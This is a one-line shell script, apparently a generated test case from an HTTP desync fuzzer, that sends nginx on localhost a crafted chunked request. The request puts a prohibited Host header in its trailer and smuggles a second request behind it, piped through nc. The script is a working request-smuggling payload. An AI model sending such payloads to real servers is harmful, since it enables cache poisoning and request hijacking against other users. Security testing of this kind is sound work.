#!/bin/sh
# desync/trailer-field-prohibited/smuggled-request via header.name-case+stream.concatenate+stream.split against nginx
printf 'T / HTTP/1.1\r\nhost:127.0.0.1:49285\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nHost: \r\n\r\nT /c1 HTTP/1.1\r\nHost:t\r\n\r\n' | nc 127.0.0.1 ${PORT:-49285}
